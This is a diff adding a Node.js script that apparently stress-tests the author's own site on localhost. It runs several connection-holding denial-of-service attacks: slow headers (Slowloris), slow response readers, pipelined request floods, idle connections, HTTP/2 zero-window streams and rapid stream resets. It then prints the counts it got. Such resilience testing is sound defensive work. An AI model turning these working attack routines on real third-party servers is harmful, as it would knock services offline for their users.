@@ -1,0 +1,127 @@
+// Attacks that wrk cannot make, most of which hold connections, from 127.0.0.1: node hold.mjs 5080 20 'slow headers'
+// Prints what they got.
+
+import { connect as connectStreams } from 'node:http2';
+import { connect } from 'node:net';
+import { setTimeout as pause } from 'node:timers/promises';
+import { fullest } from '../bench/lists.mjs';
+
+const [port, seconds, attack] = [Number(process.argv[2]), Number(process.argv[3]), process.argv[4]];
+const end = performance.now() + seconds * 1000;
+const results = {};
+const count = what => results[what] = (results[what] ?? 0) + 1;
+const head = `HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAccept-Encoding: identity\r\n`;
+
+await {
+  'the fullest list, HEAD': () => pipelines(16, `HEAD /fr/ma-liste?l=${fullest} ${head}\r\n`),
+  'cached pages, asked for ahead': () => pipelines(16, `GET /fr/guides/facebook ${head}\r\n`),
+  // Two megabytes of requests, and no response is read.
+  'requests sent ahead, no answer read': () => connections(2500, `GET /fr/guides/facebook ${head}X-Long: ${'a'.repeat(8000)}\r\n\r\n`.repeat(250), { isRead: false }),
+  // Request the largest responses and read 100 bytes a second.
+  'slow readers of lists': () => connections(2500, `GET /fr/ma-liste?l=${fullest} ${head}\r\n`, { isRead: false }),
+  'slow readers of cached pages': () => connections(2500, `GET /fr/guides/facebook ${head}\r\n`.repeat(20), { isRead: false }),
+  'connections without a request': () => connections(6000, ''),
+  'slow headers': () => connections(3000, `GET /fr/ ${head}X-Slow: `, { drip: 'a' }),
+  'HTTP/2 streams of lists, not read': () => streams(200, 100, `/fr/ma-liste?l=${fullest}`),
+  'HTTP/2 streams of cached pages, not read': () => streams(200, 100, '/fr/guides/facebook'),
+  'HTTP/2 streams, reset at once': () => streams(50, 100, `/fr/ma-liste?l=${fullest}`, { isReset: true }),
+}[attack]();
+console.log(JSON.stringify(results));
+process.exit();
+
+// One request after the other on each connection, a hundred ahead of the answers.
+async function pipelines(many, asked) {
+  let answers = 0;
+  await Promise.all(Array.from({ length: many }, () => new Promise(resolve => {
+    const socket = connect({ port, host: '127.0.0.1' });
+    const ask = times => socket.write(asked.repeat(times));
+    socket.on('connect', () => ask(100));
+    socket.on('data', data => {
+      const more = data.toString('latin1').split('HTTP/1.1 ').length - 1;
+      answers += more;
+      if (performance.now() > end) {
+        socket.destroy();
+      } else {
+        ask(more);
+      }
+    });
+    socket.on('error', () => {});
+    socket.on('close', resolve);
+  })));
+  results['a second'] = Math.round(answers / seconds);
+}
+
+// That many at a time: one that the site closes is opened anew, as often as the attack lasts.
+async function connections(many, asked, { isRead = true, drip } = {}) {
+  await Promise.all(Array.from({ length: many }, async (_, index) => {
+    await pause(index % 1000);
+    while (performance.now() < end) {
+      await connection(asked, isRead, drip);
+      await pause(200);
+    }
+  }));
+}
+
+function connection(asked, isRead, drip) {
+  return new Promise(resolve => {
+    const socket = connect({ port, host: '127.0.0.1', highWaterMark: 1024 });
+    const timers = [setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()))];
+    socket.on('connect', () => {
+      count('opened');
+      socket.write(asked);
+      if (drip) {
+        timers.push(setInterval(() => socket.write(drip), 1000));
+      }
+    });
+    if (isRead) {
+      socket.resume();
+    } else {
+      timers.push(setInterval(() => socket.read(100), 1000));
+    }
+    socket.on('end', () => socket.destroy());
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      timers.forEach(clearInterval);
+      if (performance.now() < end) {
+        count('closed by the site');
+      }
+      resolve();
+    });
+  });
+}
+
+async function streams(sessions, each, path, { isReset = false } = {}) {
+  await Promise.all(Array.from({ length: sessions }, async () => {
+    while (performance.now() < end) {
+      await session(each, path, isReset);
+      await pause(200);
+    }
+  }));
+}
+
+function session(each, path, isReset) {
+  return new Promise(resolve => {
+    // A window of 0: the client accepts no byte of any response.
+    const client = connectStreams(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 }, peerMaxConcurrentStreams: each });
+    const stop = setTimeout(() => client.destroy(), Math.max(0, end - performance.now()));
+    client.on('connect', () => {
+      count('opened');
+      for (let index = 0; index < each && !client.destroyed; index++) {
+        const stream = client.request({ ':path': path, 'accept-encoding': 'identity' });
+        stream.on('response', answer => count(answer[':status']));
+        stream.on('error', () => count('reset by the site'));
+        if (isReset) {
+          stream.close(8);
+        }
+      }
+      if (isReset) {
+        setTimeout(() => client.destroy(), 100);
+      }
+    });
+    client.on('error', () => {});
+    client.on('close', () => {
+      clearTimeout(stop);
+      resolve();
+    });
+  });
+}
